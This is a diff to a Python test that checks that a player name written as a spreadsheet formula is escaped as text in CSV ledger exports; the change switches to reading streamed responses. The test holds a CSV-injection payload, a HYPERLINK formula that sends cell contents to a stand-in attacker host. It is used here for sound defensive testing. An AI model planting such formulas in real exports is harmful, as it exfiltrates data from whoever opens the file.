@@ -12,6 +12,7 @@ from games import reports, services
 from games.models import Group, Player, Session
 from games.reports.opponents import spreadsheet_safe
 from tests.api.conftest import API, client_for
+from tests.streamed import streamed
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 
@@ -52,7 +53,7 @@ def test_a_player_named_like_a_formula_lands_as_text_in_every_ledger_csv(
 
     for response in (api, web):
         assert response.status_code == 200
-        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        rows = list(csv.reader(io.StringIO(streamed(response).decode())))
         cy_rows = [row for row in rows[1:] if row[1] != "Bob" and row[1] != "Di"]
         assert cy_rows and all(row[1] == "'" + FORMULA for row in cy_rows)
         assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
